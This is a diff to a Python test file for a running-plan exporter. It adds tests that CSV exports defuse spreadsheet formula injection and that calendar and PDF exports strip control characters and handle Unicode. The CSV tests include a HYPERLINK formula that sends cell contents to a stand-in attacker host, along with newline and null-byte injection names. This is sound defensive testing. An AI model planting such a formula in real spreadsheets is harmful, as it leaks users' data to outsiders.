@@ -2,8 +2,11 @@
 
 from __future__ import annotations
 
+import csv
 import datetime as dt
 import io
+import logging
+import math
 from typing import get_args
 
 import pandas as pd
@@ -14,9 +17,14 @@ from pypdf import PdfReader
 from runform.exercises import by_id, load_library
 from runform.export import (
     COLUMNS,
+    FONT_DIR,
+    FORMULA_STARTS,
     KIND_LABELS,
     PRODID,
+    csv_bytes,
     dose_text,
+    ics_text,
+    pdf_line,
     pdf_text,
     sessions_frame,
     to_csv,
@@ -154,10 +162,21 @@ def test_dose_text_timed() -> None:
     assert dose_text(calf_stretch()) == "2 × 30 s per side, rest 10 s"
 
 
-def test_pdf_text_maps_to_latin1() -> None:
-    assert pdf_text("≥ 10 – 12") == ">= 10 - 12"
-    assert pdf_text("Zoé → “fast” … ≤ 5 — Dvořák 中") == 'Zoé -> "fast" ... <= 5 - Dvorák ?'
-    pdf_text("’‘·÷≈").encode("latin-1")
+def test_pdf_text_keeps_unicode_the_fonts_can_print() -> None:
+    # No more ASCII look-alikes: the embedded fonts have these glyphs.
+    text = "Zoé → “fast” … ≤ 5 — Dvořák 中文 日本語 한국어 Ελένη Дарья ’‘·÷≈"
+    assert pdf_text(text) == text
+    assert pdf_text("e\u0301") == "é"  # composed, so the font's "é" is used
+
+
+def test_pdf_text_drops_controls_and_emoji_and_marks_unknown_scripts() -> None:
+    assert pdf_text("a\r\nb\rc\u2028d\te") == "a\nb\nc\nd e"
+    assert pdf_text("A\x00B\x1bC\x7fD\ud800E") == "ABCDE"
+    # An emoji sequence goes whole: no stray "♀" from the runner emoji, no skin tone, no flag.
+    assert pdf_text("Go 🏃\u200d♀\ufe0f! 👍🏽 🇫🇷.") == "Go !  ."
+    assert pdf_text("♀ stays") == "♀ stays"  # a symbol the font has is kept
+    assert pdf_text("สมชาย") == "?????"  # Thai letters: no bundled font has them
+    assert pdf_line("  李娜\nZoë 🏃 ") == "李娜 Zoë"
 
 
 # --- CSV ------------------------------------------------------------------------------------
@@ -191,6 +210,112 @@ def test_csv_parses_back_with_one_row_per_exercise(plan: Plan) -> None:
 def test_csv_of_empty_plan_keeps_the_header() -> None:
     empty = Plan(start=START, weeks=[PlanWeek(index=1)])
     assert to_csv(empty).strip() == ",".join(COLUMNS)
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&C2&D2,"Ana")'
+
+
+def hostile_frame() -> pd.DataFrame:
+    """Every formula start OWASP lists, beside cells that must come back unchanged."""
+    return pd.DataFrame(
+        {
+            "name": [HOSTILE, "+41 79 123", "-3 km", "@SUM(A1:A9)", "\tTab", "\rCR", "Zoé", None],
+            "note": ["Ana;=1+1", "it's fine", "", "a=b", "李娜 🏃", "x\ny", "'quoted", "e"],
+            "km": [-3.5, 0.0, math.nan, 12.0, -0.1, 1e3, 2.5, -7.0],
+            "count": pd.array([-2, None, 3, 0, -1, 5, 6, 7], dtype="Int64"),
+            "done": pd.array([True, False, None, True, True, False, True, False], dtype="boolean"),
+            "mixed": [-5, "-5", math.nan, "=1", 4.5, "ok", None, "+"],
+            "day": pd.to_datetime(["2025-03-03"] * 7 + [None]),
+        }
+    )
+
+
+def test_csv_bytes_defuses_every_formula_start() -> None:
+    frame = hostile_frame()
+    data = csv_bytes(frame)
+    assert isinstance(data, bytes)
+    back = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)
+    assert list(back.columns) == list(frame.columns)
+    assert list(back["name"]) == [
+        "'" + HOSTILE,
+        "'+41 79 123",
+        "'-3 km",
+        "'@SUM(A1:A9)",
+        "'\tTab",
+        "'\rCR",
+        "Zoé",
+        "",
+    ]
+    assert list(back["note"]) == [
+        "Ana;'=1+1",  # a ";" would start a new cell in a ";" spreadsheet
+        "it's fine",
+        "",
+        "a=b",
+        "李娜 🏃",
+        "x\ny",
+        "'quoted",
+        "e",
+    ]
+    # Numbers stay numbers, negative ones included; NaN and NA stay blank.
+    assert list(back["km"]) == ["-3.5", "0.0", "", "12.0", "-0.1", "1000.0", "2.5", "-7.0"]
+    assert list(back["count"]) == ["-2", "", "3", "0", "-1", "5", "6", "7"]
+    assert list(back["done"])[:3] == ["True", "False", ""]
+    # In an object column only text is quoted: the int -5 stays a number, the text "-5" does not.
+    assert list(back["mixed"]) == ["-5", "'-5", "", "'=1", "4.5", "ok", "", "'+"]
+    assert back["day"].iloc[0] == "2025-03-03"
+    assert pd.read_csv(io.BytesIO(data))["km"].dtype == "float64"  # still numeric when parsed
+    assert frame["name"].iloc[0] == HOSTILE  # the caller's frame is not modified
+
+
+def test_csv_bytes_no_cell_starts_a_formula_under_any_separator() -> None:
+    """Whatever a spreadsheet splits on (, ; or tab), no text cell it sees starts a formula."""
+    frame = hostile_frame()
+    frame["split"] = ["a;=1", 'b; "+1', "c\t@x", "d;\t=y", "e;ok", "f; -", "g", "h"]
+    text = csv_bytes(frame).decode("utf-8")
+    for delimiter in (",", ";", "\t"):
+        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
+            for cell in row:
+                try:
+                    float(cell)  # a number, negative ones included, is not a formula
+                except ValueError:
+                    assert not cell.startswith(FORMULA_STARTS), (delimiter, cell)
+    back = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
+    assert list(back["split"]) == [
+        "a;'=1",
+        "b; \"'+1",
+        "c\t'@x",
+        "d;'\t'=y",
+        "e;ok",
+        "f; '-",
+        "g",
+        "h",
+    ]
+    assert list(back["note"])[:4] == ["Ana;'=1+1", "it's fine", "", "a=b"]
+
+
+def test_csv_bytes_defuses_column_names_and_odd_frames() -> None:
+    frame = pd.DataFrame([["=x", 1], ["y", -2]], columns=["=Ana", "=Ana"])  # duplicate names
+    frame["cat"] = pd.Categorical(["@a", "b"])
+    frame["s"] = pd.array(["-x", None], dtype="string")
+    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8"))))
+    assert rows == [
+        ["'=Ana", "'=Ana", "cat", "s"],
+        ["'=x", "1", "'@a", "'-x"],
+        ["y", "-2", "b", ""],
+    ]
+    assert csv_bytes(pd.DataFrame(columns=["a", "-b"])) == b"a,'-b\r\n"
+    # A lone surrogate (a broken emoji from a form) must not make the export fail.
+    broken = pd.DataFrame({"n": pd.Series(["A\ud800B"], dtype=object)})
+    assert csv_bytes(broken) == b"n\r\nA?B\r\n"
+
+
+def test_plan_csv_defuses_hostile_plan_text(plan: Plan) -> None:
+    plan.weeks[0].sessions[0].exercises[0].name = HOSTILE
+    plan.weeks[0].sessions[0].exercises[0].reason = "-1+1"
+    frame = pd.read_csv(io.StringIO(to_csv(plan)), dtype=str, keep_default_na=False)
+    assert frame.iloc[0]["exercise"] == "'" + HOSTILE
+    assert frame.iloc[0]["reason"] == "'-1+1"
+    assert frame.iloc[0]["week"] == "1"
 
 
 # --- iCalendar ------------------------------------------------------------------------------
@@ -262,6 +387,48 @@ def test_ics_uids_are_stable_per_session_and_differ_per_athlete(plan: Plan) -> N
     assert set(after) < set(doubled)
 
 
+HOSTILE_NAMES = ["Ana\nEvil", "Ana\r\nEvil", "Ana\x00Evil", "Zoë 🏃‍♀️", "李娜", "Ana\u2028\tEvil"]
+
+
+def test_ics_text_keeps_one_line() -> None:
+    assert ics_text("Ana\nB\r\nC\x00D\tE\u2028F\x1b") == "Ana B CD E F"
+    assert ics_text("  李娜   Zoë 🏃 ") == "李娜 Zoë 🏃"
+    assert ics_text("a,b;c\\d") == "a,b;c\\d"  # icalendar escapes these itself
+
+
+@pytest.mark.parametrize("name", HOSTILE_NAMES)
+def test_ics_with_hostile_names_parses_and_keeps_clean_text(plan: Plan, name: str) -> None:
+    ex = plan.weeks[0].sessions[0].exercises[0]
+    ex.name = f"Rocks {name}"
+    ex.cues = [f"Cue {name}"]
+    plan.weeks[0].sessions[0].reason = f"Why {name}"
+    data = to_ics(plan, name)
+    # Only CRLF line endings and no other control characters anywhere in the file.
+    assert data.count(b"\n") == data.count(b"\r\n")
+    assert not any(b < 0x20 and b not in (0x0D, 0x0A) for b in data)
+    assert all(len(line) <= 75 for line in data.split(b"\r\n"))
+
+    cal = Calendar.from_ical(data)
+    clean = ics_text(name)
+    assert "\n" not in clean and "\x00" not in clean and clean
+    assert str(cal["X-WR-CALNAME"]) == f"RunForm: {clean}"
+    description = str(cal.walk("VEVENT")[0]["DESCRIPTION"])
+    assert f"- Rocks {clean}: 2 × 10 per side, rest 20 s. Cue {clean}" in description
+    assert description.endswith(f"Why {clean}")
+    # Deliberate line breaks between the lines of the notes survive (escaped as \n).
+    assert description.startswith("Week 1\n\n- ")
+
+
+def test_ics_keeps_emoji_and_cjk_and_uids_of_the_name_as_given(plan: Plan) -> None:
+    data = to_ics(plan, "李娜 Zoë 🏃")
+    cal = Calendar.from_ical(data)
+    assert str(cal["X-WR-CALNAME"]) == "RunForm: 李娜 Zoë 🏃"
+    # The UID hashes the name as given (cleaning it must not re-key imported calendars).
+    plain = Calendar.from_ical(to_ics(plan, "Ana\nEvil")).walk("VEVENT")
+    spaced = Calendar.from_ical(to_ics(plan, "Ana Evil")).walk("VEVENT")
+    assert str(plain[0]["UID"]) != str(spaced[0]["UID"])
+
+
 # --- PDF ------------------------------------------------------------------------------------
 
 
@@ -275,15 +442,15 @@ def test_pdf_opens_with_title_page_grid_and_cards(plan: Plan) -> None:
 
     title = " ".join(reader.pages[0].extract_text().split())
     assert "Zoé Müller" in title and "2025-03-03" in title
-    assert "pain >= 3/10 -> see a clinician" in title
+    assert "pain ≥ 3/10 → see a clinician" in title  # printed as typed, no ASCII look-alikes
 
     text = pdf_words(data)
     assert "Week 1" in text
     assert "Week 2 - deload" in text
     assert "Long run 75 min, 12.5 km" in text
     assert "Knee-to-wall ankle rocks" in text
-    assert "Knee over the second toe - slow and controlled" in text  # plan cue, "–" mapped
-    assert "Do >= 2 extra reps" in text
+    assert PLAN_CUE in text  # the plan's own cue, with its en dash
+    assert "Do ≥ 2 extra reps" in text
     assert "Arching the lower back to get higher" in text  # a library fault
     assert "Skip with a knee drive to hip height" in text  # library cue when the plan has none
     assert "2 × 30 s per side, rest 10 s" in text
@@ -322,3 +489,56 @@ def test_pdf_cards_flow_onto_extra_pages_and_tolerate_unknown_ids() -> None:
         assert pdf_text(name) in text
     assert "exercises (continued)" in text
     assert by_id(lib)[lib.exercises[0].id].faults[0] in text
+
+
+UNICODE_ATHLETE = "李娜 Zoë 🏃"
+
+
+def test_pdf_prints_cjk_and_accents_and_drops_emoji(plan: Plan, caplog) -> None:
+    plan.weeks[0].sessions[2].exercises[1].name = "臀桥 Glute bridge"  # a bold card title
+    plan.notes.append("Ελένη, Дарья, 한국어, 日本語 – all welcome")
+    with caplog.at_level(logging.WARNING, logger="fpdf"):
+        data = to_pdf(plan, UNICODE_ATHLETE)
+    assert not [r for r in caplog.records if "missing" in r.getMessage()]  # no blank boxes
+    reader = PdfReader(io.BytesIO(data))
+    title = " ".join(reader.pages[0].extract_text().split())
+    assert "Athlete: 李娜 Zoë Plan start" in title  # the emoji is left out on purpose
+    assert "RunForm - 李娜 Zoë - page 1" in title
+    assert "Ελένη, Дарья, 한국어, 日本語 – all welcome" in title
+    assert "?" not in title and "🏃" not in title
+    text = pdf_words(data)
+    assert "臀桥 Glute bridge" in text
+    assert reader.metadata.title == "RunForm training plan: 李娜 Zoë"
+    fonts = {
+        str(font["/BaseFont"])
+        for page in reader.pages
+        for font in page["/Resources"]["/Font"].values()
+    }
+    assert fonts == {
+        "/MPDFAA+DejaVuSansBook",
+        "/MPDFAA+DejaVuSansBold",
+        "/MPDFAA+DroidSansFallback",
+    }
+    assert data == to_pdf(plan, UNICODE_ATHLETE)  # still byte-identical
+
+
+def test_pdf_embeds_the_cjk_font_only_when_needed(plan: Plan) -> None:
+    data = to_pdf(plan, ATHLETE)
+    assert b"DroidSansFallback" not in data
+    assert b"DejaVuSans" in data
+    assert b"Helvetica" not in data
+
+
+@pytest.mark.parametrize("name", HOSTILE_NAMES)
+def test_pdf_with_hostile_names_renders(plan: Plan, name: str) -> None:
+    plan.weeks[0].notes.append(f"Note {name}")
+    data = to_pdf(plan, name)
+    title = " ".join(PdfReader(io.BytesIO(data)).pages[0].extract_text().split())
+    assert f"Athlete: {pdf_line(name)} Plan start" in title
+
+
+def test_bundled_fonts_and_licences_are_there() -> None:
+    for filename in ("DejaVuSans.ttf", "DejaVuSans-Bold.ttf", "DroidSansFallback.ttf"):
+        assert (FONT_DIR / filename).stat().st_size > 500_000
+    assert "Bitstream" in (FONT_DIR / "LICENSE-DejaVu.txt").read_text()
+    assert "Apache License" in (FONT_DIR / "LICENSE-Apache-2.0.txt").read_text()
